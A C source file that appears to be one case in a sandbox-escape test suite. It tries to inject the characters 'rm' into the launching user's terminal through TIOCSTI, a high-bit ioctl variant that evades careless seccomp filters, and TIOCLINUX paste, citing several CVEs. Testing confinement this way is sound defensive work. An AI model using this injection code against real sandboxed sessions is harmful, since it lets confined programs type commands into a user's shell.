// row: F12
// what: characters typed into the pilot's terminal (CVE-2017-5226, and with high bits CVE-2019-7303)
// control: plain
#include "attack.h"
#include <sys/ioctl.h>
#include <termios.h>

// A terminal of the launcher's session, with a shell of the pilot's waiting on it after the payload.
void launch(void) {
    int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || grantpt(master) || unlockpt(master)) cannot("no terminal: %s", errno_name());
    char name[64];
    ptsname_r(master, name, sizeof name);
    char **command = values;
    while (*command && strcmp(*command, "--")) command++;
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        int slave = open(name, O_RDWR);
        if (slave < 0 || ioctl(slave, TIOCSCTTY, 0)) _exit(98);
        struct termios raw;
        tcgetattr(slave, &raw);
        cfmakeraw(&raw);
        tcsetattr(slave, TCSANOW, &raw);
        pid_t payload = fork();
        if (payload == 0) {
            dup2(slave, 0), dup2(slave, 1);
            if (slave > 2) close(slave);
            execvp(command[1], command + 1);
            _exit(99);
        }
        int status = 0;
        waitpid(payload, &status, 0);
        // What the shell would read now.
        struct pollfd input = {.fd = slave, .events = POLLIN};
        char typed[64] = "";
        if (poll(&input, 1, 100) > 0 && read(slave, typed, sizeof typed - 1) > 0)
            succeeded("the pilot's shell reads '%s'", typed);
        int code = WIFEXITED(status) ? WEXITSTATUS(status) : 98;
        if (code == SUCCEEDED) prevented("nothing was typed, though a call said so");
        _exit(code);
    }
    int status = 0;
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {}
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 98);
}
void attack(void) {
    int typed = 0, error = 0;
    const char *legacy = get("/proc/sys/dev/tty/legacy_tiocsti");
    if (legacy && *legacy == '0') kernel("dev.tty.legacy_tiocsti is 0");
    char letters[] = "rm";
    // By the descriptor that it has, by the terminal's name, and with bits that only a careless filter sees.
    int tty = open("/dev/tty", O_RDWR);
    for (int i = 0; i < 3; i++) {
        int fd = i == 2 ? tty : i;
        if (fd < 0) continue;
        if (ioctl(fd, TIOCSTI, &letters[0]) == 0) typed++;
        else error = errno;
        if (syscall(SYS_ioctl, (long)fd, 0x100000000UL | TIOCSTI, &letters[1]) == 0) typed++;
        // TIOCLINUX, paste (CVE-2023-28100): only on a console.
        char paste = 3;
        if (ioctl(fd, TIOCLINUX, &paste) == 0) typed++;
    }
    errno = error;
    if (typed) succeeded("%d calls typed", typed);
    prevented("TIOCSTI: %s", errno_name());
}
